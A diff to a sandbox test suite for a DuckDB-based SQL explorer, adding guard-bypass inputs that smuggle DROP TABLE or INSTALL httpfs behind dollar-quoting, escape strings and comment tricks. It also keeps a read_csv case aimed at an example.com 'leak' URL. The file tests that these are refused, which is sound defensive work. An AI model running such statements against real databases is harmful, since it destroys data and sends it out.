@@ -18,11 +18,11 @@ async function run(sql: string, timeout = 30_000): Promise<{ error: string | nul
 	await page.fill('[data-testid=sql-input]', sql);
 	await page.click('[data-testid=sql-run]');
 	await page.waitForFunction((n) => Number(document.querySelector('[data-testid=explorer]')?.getAttribute('data-finished')) > n, before, { timeout });
-	return {
-		error: await page.locator('[data-testid=sql-error]').textContent({ timeout: 100 }).catch(() => null),
-		meta: await page.locator('[data-testid=sql-meta]').textContent({ timeout: 100 }).catch(() => null),
-		note: await page.locator('[data-testid=sql-note]').textContent({ timeout: 100 }).catch(() => null)
-	};
+	// Read at once, as the run left the page: a short locator timeout fails on a busy machine.
+	return page.evaluate(() => {
+		const text = (id: string) => document.querySelector(`[data-testid=${id}]`)?.textContent ?? null;
+		return { error: text('sql-error'), meta: text('sql-meta'), note: text('sql-note') };
+	});
 }
 
 const firstCell = () => site.page.textContent('[data-testid=sql-result] tbody td');
@@ -71,7 +71,12 @@ describe('探索 as a sandbox', () => {
 		[`SET VARIABLE u = 'http://example.com/leak/';\nSELECT * FROM read_csv(getvariable('u') || name) FROM municipalities`, 'SET'],
 		[`SELECT 1; /* ; */ DROP TABLE municipal_issuance`, 'DROP'],
 		[`DROP TABLE municipal_issuance`, 'DROP'],
-		[`CREATE TABLE copy AS SELECT * FROM municipalities`, 'CREATE']
+		[`CREATE TABLE copy AS SELECT * FROM municipalities`, 'CREATE'],
+		// Text that hid a statement from a guard that matched patterns instead of reading as DuckDB does.
+		[`SELECT $é$'$é$; DROP TABLE municipal_issuance; --'`, 'DROP'],
+		[`SELECT $é$'$é$; INSTALL httpfs; --'`, 'INSTALL'],
+		[`SELECT E'\\''; DROP TABLE municipal_issuance; --'`, 'DROP'],
+		[`SELECT 1 -- note\r; DROP TABLE municipal_issuance`, 'DROP']
 	];
 
 	it('refuses every hostile statement with a short Japanese message, before DuckDB, and sends nothing out', async () => {
@@ -85,7 +90,7 @@ describe('探索 as a sandbox', () => {
 			expect(await firstCell()).toBe('42');
 		}
 		expect(site.foreignRequests).toEqual([]);
-	});
+	}, 300_000);
 
 	it('runs on an engine whose way out is closed and locked (the second wall)', async () => {
 		await run(`SELECT name, value FROM duckdb_settings() WHERE name IN ('lock_configuration', 'enable_external_access', 'autoinstall_known_extensions', 'autoload_known_extensions', 'allow_community_extensions') ORDER BY name`);
